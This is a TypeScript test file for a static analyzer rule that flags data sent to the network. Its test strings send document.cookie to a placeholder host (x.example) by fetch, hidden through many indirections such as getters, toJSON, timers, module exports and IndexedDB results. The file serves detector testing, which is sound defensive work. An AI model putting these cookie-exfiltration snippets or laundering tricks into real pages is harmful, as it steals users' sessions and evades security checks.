import { analyzeText } from '../testing/analyze-text.ts';

const SEND = (value: string) => `fetch('https://x.example/in', { method: 'POST', body: ${value} });`;

async function leaks(text: string): Promise<boolean> {
  const { findings } = await analyzeText(text);
  return findings.some(({ ruleId }) => ruleId === 'secret-to-network');
}

describe('what a page remembers of a person is followed through', () => {
  it.each([
    ['a member of the window', `window.stash = document.cookie; ${SEND('window.stash')}`],
    [
      'a member of a member that everyone shares',
      `globalThis.a = { b: document.cookie }; ${SEND('globalThis.a.b')}`,
    ],
    ['what a module gives', `module.exports.kept = document.cookie; ${SEND('module.exports.kept')}`],
    [
      'the data of an element of the page',
      `document.body.dataset.k = document.cookie; ${SEND('document.body.dataset.k')}`,
    ],
    [
      'a list that a function fills',
      `const out = []; const fill = (into) => into.push(document.cookie); fill(out); ${SEND('out[0]')}`,
    ],
    [
      'an object that a function writes to',
      `const o = {}; (function fill(x) { x.c = document.cookie; })(o); ${SEND('o.c')}`,
    ],
    [
      'a part of an address',
      `const u = new URL('https://x.example'); u.search = document.cookie; fetch(u.href);`,
    ],
    ['what a timer tells', `setTimeout((told) => { ${SEND('told')} }, 10, document.cookie);`],
    [
      'the object a function is called on',
      `function send() { ${SEND('this.c')} } send.call({ c: document.cookie });`,
    ],
    [
      'an object that says how it is written',
      `const o = { toString() { return document.cookie; } }; ${SEND('String(o)')}`,
    ],
    [
      'an object that says what it is as JSON',
      `const o = { toJSON: () => document.cookie }; ${SEND('JSON.stringify(o)')}`,
    ],
    [
      'what is asked for as a primitive',
      `const o = { [Symbol.toPrimitive]: () => document.cookie }; ${SEND('`${o}`')}`,
    ],
    [
      'a getter that is defined',
      `const o = {}; Object.defineProperty(o, 'c', { get: () => document.cookie }); ${SEND('o.c')}`,
    ],
    [
      'what a database answers',
      `indexedDB.open('app').onsuccess = (event) => { ${SEND('event.target.result')} };`,
    ],
    [
      'what a database tells a listener',
      `const r = indexedDB.open('app'); r.addEventListener('success', () => { ${SEND('r.result')} });`,
    ],
  ])('%s', async (_way, text) => {
    expect(await leaks(text)).toBe(true);
  });
});

describe('what never met it stays clean', () => {
  it.each([
    ['another member of the window', `window.stash = document.cookie; ${SEND('window.other')}`],
    [
      'another list the same function fills',
      `const fill = (into, what) => into.push(what); const own = []; fill(own, 1); show(document.cookie); ${SEND('own')}`,
    ],
    [
      'what a timer tells before its delay',
      `setTimeout((told) => { ${SEND('told')} }, document.cookie.length, 1);`,
    ],
    [
      'an object that is asked for a number of its own',
      `const o = { c: document.cookie, get size() { return 1; } }; ${SEND('o.size')}`,
    ],
    [
      'the answer to a request that is no database',
      `request.onsuccess = (event) => { ${SEND('event.target.result')} };`,
    ],
  ])('%s', async (_way, text) => {
    expect(await leaks(text)).toBe(false);
  });
});
